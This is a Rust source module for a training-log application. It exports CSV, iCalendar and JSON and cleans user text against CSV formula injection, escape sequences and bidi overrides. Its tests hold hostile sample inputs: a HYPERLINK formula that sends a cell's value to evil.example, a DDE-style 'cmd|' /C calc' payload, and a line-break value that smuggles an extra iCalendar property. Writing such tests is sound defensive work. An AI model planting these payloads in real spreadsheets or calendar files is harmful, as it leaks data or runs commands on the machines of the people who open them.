//! Files for other programs: CSV exports of the training log and its summaries, and
//! deadlines as an iCalendar file for Outlook and Thunderbird, and JSON (see [`json`]).
//!
//! Exports are data for other programs, and stored text may hold anything a user typed
//! or pasted. Every text leaves through one function per format: [`csv_cell`] for CSV,
//! [`ics_text`] for iCalendar and [`json::to_string_pretty`] for JSON, so no control
//! character, escape sequence or bidi override leaves raw and no cell opens as a
//! spreadsheet formula.

pub mod contacts;
pub mod json;
pub mod privacy;
pub mod regional;
pub mod report;

use crate::model::{SummaryRow, Training, format_hours};
use crate::store::{Deadline, DeadlineKind};
use std::borrow::Cow;
use std::io::Write;

/// A stored text made fit for a file: line breaks (`\r\n`, `\r`, `\n`) become `\n`, a
/// tab becomes a space, every other control character (C0, DEL, C1, so escape
/// sequences too) and every bidi or direction control is removed.
pub fn export_text(s: &str) -> Cow<'_, str> {
    if !s
        .chars()
        .any(|c| (c.is_control() && c != '\n') || crate::text::is_bidi_control(c))
    {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len());
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\r' => {
                if chars.peek() != Some(&'\n') {
                    out.push('\n');
                }
            }
            '\n' => out.push('\n'),
            '\t' => out.push(' '),
            c if c.is_control() || crate::text::is_bidi_control(c) => {}
            c => out.push(c),
        }
    }
    Cow::Owned(out)
}

/// The characters that make a spreadsheet read a cell as a formula (OWASP, "CSV
/// Injection").
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// One text cell of a CSV file. Cleaned by [`export_text`]; a cell that starts with `=`,
/// `+`, `-`, `@`, a tab or a carriage return, before or after cleaning, gets a `'` in
/// front so Excel and LibreOffice show it as text instead of running it as a formula
/// (OWASP's advice for CSV injection). Numbers the program itself formats (ids, hours,
/// costs, counts) are written without this function: they cannot hold a formula, and a
/// negative number stays a number.
pub fn csv_cell(s: &str) -> Cow<'_, str> {
    let cleaned = export_text(s);
    if s.starts_with(FORMULA_START) || cleaned.starts_with(FORMULA_START) {
        Cow::Owned(format!("'{cleaned}"))
    } else {
        cleaned
    }
}

/// A CSV writer that quotes every field that is not a number, so a `;` or a line
/// break inside a text can never start a new cell, even for a spreadsheet that splits
/// on `;` (Swedish Excel); numbers stay unquoted and are read as numbers.
/// `excel`: `;` between cells, as Excel set to Swedish expects (the caller writes the
/// UTF-8 byte order mark first).
fn csv_writer<W: Write>(out: W, excel: bool) -> csv::Writer<W> {
    csv::WriterBuilder::new()
        .quote_style(csv::QuoteStyle::NonNumeric)
        .delimiter(if excel { b';' } else { b',' })
        .from_writer(out)
}

/// A text for an iCalendar TEXT value: cleaned by [`export_text`] (RFC 5545 allows no
/// control character in TEXT but the line break, which the writer escapes as `\n`, as
/// it escapes `\`, `,` and `;`).
pub fn ics_text(s: &str) -> Cow<'_, str> {
    export_text(s)
}

/// Writes every activity as CSV, one row per activity, participants as accounts
/// joined by `;`. Columns are stable, English and lower-case, for spreadsheets and
/// scripts.
///
/// `excel`: a UTF-8 byte order mark and `;` between cells, so Excel set to Swedish
/// opens it into columns with å, ä and ö right (`export training --excel`).
pub fn training_csv<W: Write>(
    mut out: W,
    rows: &[(Training, Vec<String>)],
    excel: bool,
) -> csv::Result<()> {
    if excel {
        out.write_all(b"\xEF\xBB\xBF")?;
    }
    let mut w = csv_writer(out, excel);
    w.write_record([
        "id",
        "date_from",
        "date_to",
        "title",
        "kind",
        "hours",
        "participants",
        "person_hours",
        "organiser",
        "city",
        "country",
        "priority_area",
        "growth_area",
        "funding",
        "cost_sek",
        "partner",
        "shared",
        "notes",
    ])?;
    for (t, accounts) in rows {
        let d = &t.data;
        w.write_record([
            t.id.to_string(),
            csv_cell(&d.date_from).into_owned(),
            csv_cell(d.date_to.as_deref().unwrap_or_default()).into_owned(),
            csv_cell(&d.title).into_owned(),
            d.kind.as_str().to_string(),
            format_hours(d.minutes),
            csv_cell(&accounts.join(";")).into_owned(),
            format_hours(d.minutes * accounts.len() as i64),
            csv_cell(&d.organiser).into_owned(),
            csv_cell(&d.city).into_owned(),
            csv_cell(&d.country).into_owned(),
            d.priority_area
                .map(|a| a.as_str().to_string())
                .unwrap_or_default(),
            d.growth_area
                .map(|a| a.as_str().to_string())
                .unwrap_or_default(),
            d.funding.as_str().to_string(),
            d.cost_sek.map(|c| c.to_string()).unwrap_or_default(),
            csv_cell(t.partner_name.as_deref().unwrap_or_default()).into_owned(),
            csv_cell(&d.shared).into_owned(),
            csv_cell(&d.notes).into_owned(),
        ])?;
    }
    w.flush()?;
    Ok(())
}

/// A summary as CSV: key, hours (person-hours), participants, activities.
pub fn summary_csv<W: Write>(out: W, rows: &[SummaryRow]) -> csv::Result<()> {
    let mut w = csv_writer(out, false);
    w.write_record(["key", "hours", "participants", "activities"])?;
    for r in rows {
        w.write_record([
            csv_cell(&r.key).into_owned(),
            format_hours(r.minutes),
            r.participants.to_string(),
            r.activities.to_string(),
        ])?;
    }
    w.flush()?;
    Ok(())
}

/// A summary as the JSON array of `{"key", "hours", "participants", "activities"}`.
pub fn summary_json(rows: &[SummaryRow]) -> serde_json::Value {
    serde_json::Value::Array(
        rows.iter()
            .map(|r| {
                serde_json::json!({
                    "key": r.key,
                    "hours": r.minutes as f64 / 60.0,
                    "participants": r.participants,
                    "activities": r.activities,
                })
            })
            .collect(),
    )
}

/// Deadlines as an iCalendar file: one all-day event each, with a UID that stays the
/// same across exports so a calendar updates instead of duplicating.
pub fn deadlines_ics(deadlines: &[Deadline], calendar_name: &str) -> String {
    use icalendar::{Calendar, Component, Event, Parameter, Property};
    let mut cal = Calendar::new();
    cal.name(&ics_text(calendar_name));
    for d in deadlines {
        let kind = match d.kind {
            DeadlineKind::PlanItem => "plan-item",
            DeadlineKind::Milestone => "milestone",
            DeadlineKind::Evaluation => "evaluation",
            DeadlineKind::Call => "call",
            DeadlineKind::Account => "account",
            // Personal data's deadlines name a person: they stay in the program, where
            // erasure reaches them, and never go to an outside calendar.
            DeadlineKind::NotInformed | DeadlineKind::PrivacyRequest => continue,
        };
        // A DATE value is eight digits; nothing else in a stored date may reach the line.
        let digits = |s: &str| {
            s.chars()
                .filter(char::is_ascii_digit)
                .take(8)
                .collect::<String>()
        };
        let start = digits(&d.date);
        // All-day events end the day after (DTEND is exclusive).
        let end = digits(&crate::model::add_days(&d.date, 1).unwrap_or_else(|| d.date.clone()));
        let mut description = ics_text(&d.context).into_owned();
        if let Some(o) = &d.owner {
            if !description.is_empty() {
                description.push_str(" · ");
            }
            description.push_str(&ics_text(o));
        }
        // A milestone names its project in the title a calendar shows
        // (`Styrgruppsmöte — ACRONYM`), not only in the description.
        let summary = if d.project.trim().is_empty() {
            ics_text(&d.title).into_owned()
        } else {
            format!("{} — {}", ics_text(&d.title), ics_text(&d.project))
        };
        let event = Event::new()
            .uid(&format!("{kind}-{}@intnet", d.id))
            .summary(&summary)
            .description(&description)
            .append_property(
                Property::new("DTSTART", &start)
                    .append_parameter(Parameter::new("VALUE", "DATE"))
                    .done(),
            )
            .append_property(
                Property::new("DTEND", &end)
                    .append_parameter(Parameter::new("VALUE", "DATE"))
                    .done(),
            )
            .done();
        cal.push(event);
    }
    cal.done().to_string()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_quotes_what_needs_quoting() {
        let rows = vec![SummaryRow {
            key: "Kultur, fritid".into(),
            minutes: 90,
            participants: 2,
            activities: 1,
        }];
        let mut out = Vec::new();
        summary_csv(&mut out, &rows).unwrap();
        assert_eq!(
            String::from_utf8(out).unwrap(),
            "\"key\",\"hours\",\"participants\",\"activities\"\n\"Kultur, fritid\",1.5,2,1\n"
        );
        assert_eq!(summary_json(&rows)[0]["hours"], 1.5);
    }

    #[test]
    fn csv_cells_that_would_be_formulas_get_a_quote() {
        for (raw, cell) in [
            (
                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
                "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
            ),
            ("+46 26 17 80 00", "'+46 26 17 80 00"),
            ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
            ("@SUM(1+1)", "'@SUM(1+1)"),
            ("\t=1+1", "' =1+1"),
            ("\r=1+1", "'\n=1+1"),
            // Hidden behind a control or a bidi override that cleaning removes.
            ("\x1b=1+1", "'=1+1"),
            ("\u{202E}=1+1", "'=1+1"),
            ("\u{9B}@x", "'@x"),
            // Harmless: left as it is.
            ("Kurs i Tartu", "Kurs i Tartu"),
            ("a=b", "a=b"),
            (" =1", " =1"),
            ("", ""),
        ] {
            assert_eq!(csv_cell(raw), cell, "{raw:?}");
        }
        assert!(matches!(csv_cell("Gävle"), Cow::Borrowed(_)));
    }

    #[test]
    fn export_text_removes_controls_and_bidi() {
        assert_eq!(
            export_text("a\x1b[31mb\x07c\u{9B}2Jd\u{7F}e\u{202E}f\u{2066}g\u{200E}h\u{61C}i"),
            "a[31mbc2Jdefghi"
        );
        assert_eq!(
            export_text("one\r\ntwo\rthree\nfour\tfive"),
            "one\ntwo\nthree\nfour five"
        );
    }

    proptest::proptest! {
        /// Whatever is stored, a CSV cell has no control but the line feed, no bidi
        /// control, never starts a formula, and reads back as written.
        #[test]
        fn any_text_makes_a_safe_cell(
            s in "(.|[\\x00-\\x1F\\x7F-\\x{9F}\\x{202A}-\\x{202E}\\x{2066}-\\x{2069}=+@-])*"
        ) {
            let cell = csv_cell(&s).into_owned();
            proptest::prop_assert!(!cell.chars().any(|c| (c.is_control() && c != '\n')
                || crate::text::is_bidi_control(c)));
            proptest::prop_assert!(!cell.starts_with(FORMULA_START));
            let mut out = Vec::new();
            {
                let mut w = csv_writer(&mut out, false);
                w.write_record([cell.as_str(), "1"]).unwrap();
                w.flush().unwrap();
            }
            let mut r = csv::ReaderBuilder::new().has_headers(false).from_reader(out.as_slice());
            let rec = r.records().next().unwrap().unwrap();
            proptest::prop_assert_eq!(&rec[0], cell.as_str());
            let ics = ics_text(&s);
            proptest::prop_assert!(!ics.chars().any(|c| (c.is_control() && c != '\n')
                || crate::text::is_bidi_control(c)));
        }
    }

    fn hostile() -> &'static str {
        "=HYPERLINK(\"http://evil.example\",\"x\")\x1b[31m red\x07;\r\u{202E}\u{9B}2J, end"
    }

    #[test]
    fn summary_csv_reads_back_neutralised_and_clean() {
        let rows = vec![
            SummaryRow {
                key: hostile().into(),
                minutes: -90,
                participants: 1,
                activities: 1,
            },
            SummaryRow {
                key: "-5".into(),
                minutes: 60,
                participants: 1,
                activities: 1,
            },
        ];
        let mut out = Vec::new();
        summary_csv(&mut out, &rows).unwrap();
        let text = String::from_utf8(out).unwrap();
        assert!(
            !text
                .chars()
                .any(|c| (c.is_control() && c != '\n') || crate::text::is_bidi_control(c)),
            "{text:?}"
        );
        let mut r = csv::Reader::from_reader(text.as_bytes());
        let recs: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
        assert_eq!(recs.len(), 2);
        assert_eq!(
            &recs[0][0],
            "'=HYPERLINK(\"http://evil.example\",\"x\")[31m red;\n2J, end"
        );
        // A number the program formats stays a negative number; a text that looks
        // like one is text.
        assert_eq!(&recs[0][1], "-1.5");
        assert_eq!(&recs[1][0], "'-5");
    }

    #[test]
    fn ics_text_is_escaped_and_clean_and_parses() {
        let d = Deadline {
            date: "2026-05-04\r\nX-EVIL:1".into(),
            kind: DeadlineKind::PlanItem,
            id: 7,
            title: hostile().into(),
            context: "Plan\x1b]0;title\x07 A\nB".into(),
            project: String::new(),
            owner: Some("Anna\u{202E}".into()),
            overdue: false,
        };
        let ics = deadlines_ics(&[d], "Kalender");
        // Only the CRLF line ends of the format itself.
        let no_crlf = ics.replace("\r\n", "");
        assert!(
            !no_crlf
                .chars()
                .any(|c| c.is_control() || crate::text::is_bidi_control(c)),
            "{ics:?}"
        );
        assert!(!ics.contains("X-EVIL"), "{ics}");
        let mut parser = ical::IcalParser::new(std::io::BufReader::new(ics.as_bytes()));
        let cal = parser.next().unwrap().unwrap();
        assert!(parser.next().is_none());
        let ev = &cal.events[0];
        let prop = |name: &str| {
            ev.properties
                .iter()
                .find(|p| p.name == name)
                .and_then(|p| p.value.clone())
                .unwrap_or_default()
        };
        // The ical parser gives the value as written: RFC 5545's escapes still in it.
        assert_eq!(
            prop("SUMMARY"),
            r#"=HYPERLINK("http://evil.example"\,"x")[31m red\;\n2J\, end"#
        );
        assert_eq!(prop("DTSTART"), "20260504");
        assert_eq!(prop("DESCRIPTION"), r"Plan]0\;title A\nB · Anna");
    }
}
